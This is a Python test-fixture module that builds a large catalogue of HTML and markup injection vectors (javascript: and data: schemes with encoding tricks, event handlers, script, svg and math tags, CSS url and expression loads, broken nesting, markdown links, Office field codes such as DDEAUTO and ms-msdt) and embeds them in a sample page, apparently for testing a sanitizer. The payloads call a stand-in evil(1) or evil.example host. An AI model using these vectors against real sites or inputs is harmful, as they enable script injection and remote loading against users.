"""Scraps of markup that try to have a script run, something loaded or another place opened.

They are made from the families that are known (handlers, schemes and their disguises, tags that load,
styles, foreign content, broken nesting, encodings, templates and their like); each carries the word
`evil`, so that a test can see where it came out.
"""

from __future__ import annotations

from itertools import product

CALL = "evil(1)"

_SCHEMES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f" javascript:{CALL}",
    f"java\tscript:{CALL}",
    f"java\nscript:{CALL}",
    f"java&#9;script:{CALL}",
    f"java&#x0A;script:{CALL}",
    f"java&Tab;script:{CALL}",
    f"javascript&colon;{CALL}",
    f"&#106;avascript:{CALL}",
    f"&#x6A;&#x61;vascript:{CALL}",
    f"&#0000106avascript:{CALL}",
    f"\x01javascript:{CALL}",
    f"&#1;javascript:{CALL}",
    "javascript:%65vil(1)",
    f"javascript://https://good.example/%0A{CALL}",
    f"javascript:/*--></title></style>*/{CALL}",
    f"vbscript:{CALL}",
    f"livescript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5ldmlsKDEpPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg onload={CALL}>",
    "file:///etc/evil",
    "file://evil.example/share",
    "\\\\evil.example\\share",
    "ftp://evil.example/x",
    "blob:https://evil.example/1",
    "filesystem:https://evil.example/1",
    f"view-source:javascript:{CALL}",
    f"jar:https://evil.example!/{CALL}",
    "ms-word:ofe|u|https://evil.example/x.docm",
    "search-ms:query=evil",
    "smb://evil.example/x",
    "tel:evil",
    "chrome://evil",
    "about:evil",
    f"feed:javascript:{CALL}",
    "intent://evil#Intent;scheme=x;end",
    "ms-msdt:/id evil",
    f"mhtml:javascript:{CALL}",
    f"x-javascript:{CALL}",
)

_LINKS = tuple(f'<a href="{scheme}">evil link</a>' for scheme in _SCHEMES)
_LOADS = tuple(
    pattern.format(scheme)
    for pattern, scheme in product(
        ('<img src="{}" alt="evil picture">', '<iframe src="{}">evil frame</iframe>'),
        _SCHEMES[:20],
    )
)
_HANDLERS = tuple(
    f"<{tag} {handler}={quote}{CALL}{quote}>evil {tag}</{tag}>"
    for (tag, handler), quote in product(
        (
            ("p", "onclick"),
            ("b", "onmouseover"),
            ("div", "onpointerenter"),
            ("a", "onfocus"),
            ("details", "ontoggle"),
            ("body", "onload"),
            ("svg", "onload"),
            ("marquee", "onstart"),
            ("video", "onerror"),
            ("audio", "oncanplay"),
            ("input", "onfocus"),
            ("select", "onchange"),
            ("textarea", "onkeydown"),
            ("form", "onsubmit"),
            ("table", "onscroll"),
            ("img", "onerror"),
            ("h2", "onwheel"),
            ("li", "ondrag"),
            ("blockquote", "oncopy"),
            ("span", "onanimationstart"),
        ),
        ('"', "'", ""),
    )
)
_TAGS = (
    f"<script>{CALL}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<script/x>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script>{CALL}",
    f"<script\n>{CALL}</script\n>",
    f"<script type=module>{CALL}</script>",
    f"<script type=text/vbscript>{CALL}</script>",
    "<style>@import 'https://evil.example/x.css';</style>",
    f"<style>p{{background:url(javascript:{CALL})}}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<link rel=import href=https://evil.example/>",
    f'<meta http-equiv=refresh content="0;url=javascript:{CALL}">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "<base href=javascript:evil//>",
    "<object data=https://evil.example/x.swf>evil object</object>",
    f"<object data=javascript:{CALL}></object>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=evil.class>evil applet</applet>",
    "<frameset><frame src=https://evil.example></frameset>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    "<portal src=https://evil.example></portal>",
    "<video src=https://evil.example/x.mp4></video>",
    "<audio src=https://evil.example/x.mp3></audio>",
    "<video poster=https://evil.example/x.png></video>",
    "<source src=https://evil.example/x>",
    "<track src=https://evil.example/x>",
    "<bgsound src=https://evil.example>",
    "<form action=https://evil.example><input name=x><button>evil send</button></form>",
    f"<button formaction=javascript:{CALL}>evil</button>",
    f"<isindex action=javascript:{CALL}>",
    "<input type=image src=https://evil.example/x.png>",
    "<keygen onfocus=evil(1) autofocus>",
    f"<math><mtext><script>{CALL}</script></mtext></math>",
    f"<math href=javascript:{CALL}>evil</math>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><a xlink:href=javascript:{CALL}><text>evil</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={CALL}>#x'/></svg>",
    "<svg><image href=https://evil.example/></svg>",
    f"<svg><animate attributeName=href values=javascript:{CALL} /></svg>",
    f"<svg><set onbegin={CALL} /></svg>",
    f"<svg><foreignObject><body onload={CALL}></foreignObject></svg>",
    f"<svg><style>*{{x:expression({CALL})}}</style></svg>",
    f"<template><script>{CALL}</script></template>",
    f"<noscript><p title='</noscript><script>{CALL}</script>'></noscript>",
    f"<noembed><img src=x onerror={CALL}></noembed>",
    f"<xmp><img src=x onerror={CALL}></xmp>",
    f"<plaintext><script>{CALL}</script>",
    f"<listing>&lt;script>{CALL}&lt;/script></listing>",
    f"<textarea></textarea><script>{CALL}</script>",
    f"<title></title><script>{CALL}</script>",
    f"<![CDATA[<script>{CALL}</script>]]>",
    f"<!--[if IE]><script>{CALL}</script><![endif]-->",
    f"<!--><script>{CALL}</script-->",
    f"<!-- --!><script>{CALL}</script> -->",
    f"<?xml-stylesheet href=javascript:{CALL}?>",
    f"<?php echo 'evil' ?><img src=x onerror={CALL}>",
    '<!ENTITY x SYSTEM "file:///evil">&x;',
    "<%= evil %>",
    f"<custom-evil onclick={CALL}>evil element</custom-evil>",
    "<xss style=behavior:url(x.htc)>evil</xss>",
    f"<o:p><v:shape href=javascript:{CALL}>evil shape</v:shape></o:p>",
    f"<layer src=javascript:{CALL}></layer>",
    "<img srcset='https://evil.example/a 1x, javascript:evil(1) 2x' alt=evil>",
    "<picture><source srcset=javascript:evil(1)></picture>",
    "<img dynsrc=javascript:evil(1) alt=evil>",
    "<img lowsrc=javascript:evil(1) alt=evil>",
    "<img src=x data-src=javascript:evil(1) alt=evil>",
    "<a ping=https://evil.example href=#>evil ping</a>",
    "<a href=# target=evil>evil target</a>",
    "<area shape=default href=javascript:evil(1)>",
    "<map><area href=javascript:evil(1)></map>",
    "<q cite=javascript:evil(1)>evil quotation</q>",
    "<blockquote cite=javascript:evil(1)>evil block</blockquote>",
    "<del cite=javascript:evil(1)>evil</del>",
    "<table background=javascript:evil(1)><tr><td>evil cell</td></tr></table>",
    "<td background=https://evil.example/x.png>evil</td>",
    "<body background=javascript:evil(1)>",
)
_STYLES = tuple(
    f'<p style="{style}">evil style</p>'
    for style in (
        "background:url(https://evil.example/x.png)",
        f"background:url('javascript:{CALL}')",
        f"width:expression({CALL})",
        "behavior:url(https://evil.example/x.htc)",
        "-moz-binding:url(https://evil.example/x.xml#x)",
        "list-style:url(https://evil.example/x)",
        "content:url(https://evil.example/x)",
        "cursor:url(https://evil.example/x)",
        "background:\\75rl(https://evil.example/x)",
        "x:url('data:text/html,evil')",
        "font-family:'evil;}body{x:y'",
        "position:fixed;top:0;left:0;width:100%;height:100%",
        "mso-element:header;x:url(https://evil.example)",
    )
)
_BROKEN = (
    f'<p title="><script>{CALL}</script>">evil title</p>',
    f"<p title='\"><img src=x onerror={CALL}>'>evil</p>",
    f"<img src=`x`onerror={CALL} alt=evil>",
    f"<img/src=x/onerror={CALL} alt=evil>",
    f"<img src=x onerror\n=\n{CALL}>",
    f"<<script>{CALL}//<</script>",
    f"<a href='x'onclick='{CALL}'>evil</a>",
    f'<a href="https://good.example/"onclick="{CALL}">evil</a>',
    f'<a href="https://good.example/&quot; onclick=&quot;{CALL}">evil quote</a>',
    "<a href='https://good.example/><img src=x>'>evil</a>",
    f'<a href="https://good.example/)[x](javascript:{CALL}">evil brackets</a>',
    f"<a href=https://good.example/><b onclick={CALL}>evil</a></b>",
    f"<p>&lt;script&gt;{CALL}&lt;/script&gt; evil text</p>",
    f"<p>&lt;img src=x onerror={CALL}&gt; evil text</p>",
    f"<p>[evil](javascript:{CALL})</p>",
    f"<p>![evil](javascript:{CALL})</p>",
    f"<p>&lt;javascript:{CALL}&gt; evil</p>",
    f"<p>[evil]: javascript:{CALL}</p>",
    "<p>{{evil}} {%evil%} ${evil} #{evil}</p>",
    '<p>=HYPERLINK("javascript:evil(1)") evil</p>',
    "<p>{ HYPERLINK javascript:evil(1) } evil field</p>",
    "<p>{ INCLUDEPICTURE https://evil.example/x } evil</p>",
    "<p>{ DDEAUTO c:\\\\evil.exe } evil</p>",
    f"<p>\u202e{CALL}\u202c evil turn</p>",
    f"<p>\ufeff<script>{CALL}</script>evil</p>",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4- evil",
    f"\u00bcscript\u00be{CALL}\u00bc/script\u00be evil",
    f"<p>\uff1cscript\uff1e{CALL}\uff1c/script\uff1e evil wide</p>",
    f"%3Cscript%3E{CALL}%3C/script%3E evil",
    f"<p>&amp;lt;script&amp;gt;{CALL}&amp;lt;/script&amp;gt; evil twice</p>",
    f"<p><a name=javascript:{CALL}>evil name</a></p>",
    '<a href="https://good.example/\u202ejs.live">evil turn in a link</a>',
    "<a href=//evil.example/x>evil without a scheme</a>",
    "<a href=https:javascript:evil(1)>evil</a>",
    "<a href='mailto:x@evil.example?body=%0d%0aevil'>evil mail</a>",
)

VECTORS: tuple[str, ...] = (*_LINKS, *_LOADS, *_HANDLERS, *_TAGS, *_STYLES, *_BROKEN)

PROSE = "The first lorry left the quay at dawn, and by noon the shed was empty, unseen since May."


def page(vector: str) -> str:
    """Return a page of the shape of a brief with `vector` in its title, a point, paragraphs and a cell."""
    wide = f"{PROSE} It will likely rain"
    return (
        f"<html><head><title>Quay {vector}</title></head><body><article><p>{PROSE}</p>"
        f"<h2>Highlights</h2><ul><li>The quay is full of crates and lorries</li>"
        f"<li>The shed is empty {vector}</li></ul><p>{PROSE}</p><p>{PROSE} {vector}</p><div>{vector}</div>"
        f"<table><tr><td>{vector}</td><td>x</td></tr></table><h2>What's real, what's wishful</h2>"
        f"<p>The claim that the shed is empty is accurate {vector}, says the clerk.</p><h2>Outlook</h2>"
        f"<p>{wide} {vector}</p><h2>REEx summary</h2><p>{PROSE} {PROSE} {vector}</p></article>"
        "</body></html>"
    )
